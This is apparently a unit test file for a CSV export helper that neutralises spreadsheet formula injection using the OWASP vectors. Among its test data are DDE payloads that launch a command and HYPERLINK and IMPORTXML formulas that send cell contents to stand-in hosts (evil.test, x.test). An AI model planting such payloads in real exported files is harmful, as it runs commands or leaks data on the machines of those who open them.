import { expect } from '@open-wc/testing';
import { FORMULA_TRIGGERS, csvLine, isFormulaLike, neutraliseFormula } from '../../src/csv/formula.js';

describe('csv: neutraliseFormula (OWASP CSV injection)', () => {
  // Every vector from the OWASP CSV Injection page, and the first characters it names.
  const vectors: [string, string][] = [
    ['=1+1', `"'=1+1"`],
    ['+1+1', `"'+1+1"`],
    ['-1+1', `"'-1+1"`],
    ['@SUM(1+1)', `"'@SUM(1+1)"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
    ['\0=1', `"'\0=1"`],
    [`=HYPERLINK("http://evil.test?x="&A1,"Click")`, `"'=HYPERLINK(""http://evil.test?x=""&A1,""Click"")"`],
    [`=cmd|' /C calc'!A0`, `"'=cmd|' /C calc'!A0"`],
    [`@SUM(1+9)*cmd|' /C calc'!A0`, `"'@SUM(1+9)*cmd|' /C calc'!A0"`],
    [`-2+3+cmd|' /C calc'!A0`, `"'-2+3+cmd|' /C calc'!A0"`],
    [`+14155552671`, `"'+14155552671"`],
    [`=IMPORTXML(CONCAT("http://x.test/?v=", A1), "//a")`, `"'=IMPORTXML(CONCAT(""http://x.test/?v="", A1), ""//a"")"`],
  ];
  for (const [cell, out] of vectors) {
    it(`neutralises ${JSON.stringify(cell)}`, () => {
      expect(neutraliseFormula(cell)).to.equal(out);
      expect(isFormulaLike(cell)).to.equal(true);
    });
  }

  it('covers = + - @ TAB CR (and NUL)', () => {
    expect([...FORMULA_TRIGGERS].sort()).to.deep.equal(['\0', '\t', '\r', '+', '-', '=', '@'].sort());
  });

  it('quotes harmless cells without a leading quote', () => {
    expect(neutraliseFormula('Zoë')).to.equal('"Zoë"');
    expect(neutraliseFormula('')).to.equal('""');
    expect(neutraliseFormula('a,b')).to.equal('"a,b"');
    expect(neutraliseFormula('say "hi"')).to.equal('"say ""hi"""');
    expect(neutraliseFormula('line\nbreak')).to.equal('"line\nbreak"');
    expect(neutraliseFormula(' =1+1')).to.equal('" =1+1"'); // not at the start: text for spreadsheets
    expect(neutraliseFormula('1=1')).to.equal('"1=1"');
  });

  it('writes whole lines, CRLF-terminated', () => {
    expect(csvLine(['7', 'Invalid phone number', '=1+1', 'O"Brien'])).to.equal(`"7","Invalid phone number","'=1+1","O""Brien"\r\n`);
  });
});
